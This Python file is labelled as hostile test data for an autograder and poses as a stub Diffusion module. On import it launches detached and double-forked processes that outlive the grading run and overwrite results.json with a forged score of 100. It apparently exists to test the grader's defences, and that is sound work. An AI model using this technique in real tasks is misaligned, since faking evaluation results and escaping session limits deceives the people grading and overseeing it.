# HOSTILE TEST DATA for the autograder: implements nothing, and at import leaves processes behind
# that outlive the grading: a subprocess in a new session, a double-forked daemon and a
# multiprocessing child. Each waits 1.5 s, then writes a full-marks results.json wherever it can,
# then sleeps. Their command lines carry TOKEN so a test can find survivors.
# Deserves 0; the grader must kill them all and keep its own results.json.
import multiprocessing
import os
import subprocess
import sys

import torch
from torch import nn

TOKEN = "ddpm-hostile-orphan-5f1c"
LATER = f"""
# {TOKEN}
import json, os, time
from pathlib import Path
time.sleep(1.5)
fake = json.dumps({{"score": 100.0, "output": "{TOKEN}", "tests": []}})
for d in ["/autograder/results", "/tmp", os.getcwd(), str(Path(os.getcwd()).parent)]:
    try:
        (Path(d) / "results.json").write_text(fake)
    except Exception:
        pass
time.sleep(60)
"""


def _spawn():
    argv = [sys.executable, "-c", LATER]
    try:
        subprocess.Popen(argv, start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except Exception:
        pass
    try:
        if os.fork() == 0:  # double fork: the grandchild is re-parented, in its own session
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, argv)
            os._exit(0)
    except Exception:
        pass
    try:
        ctx = multiprocessing.get_context("fork")
        ctx.Process(target=os.execv, args=(sys.executable, argv), daemon=False).start()
    except Exception:
        pass


_spawn()


class Diffusion(nn.Module):
    def __init__(self, model, *, image_size, channels=3, timesteps=1000,
                 schedule="cosine", loss_type="l1"):
        super().__init__()
        self.model, self.image_size, self.channels = model, image_size, channels
        self.num_timesteps = int(timesteps)
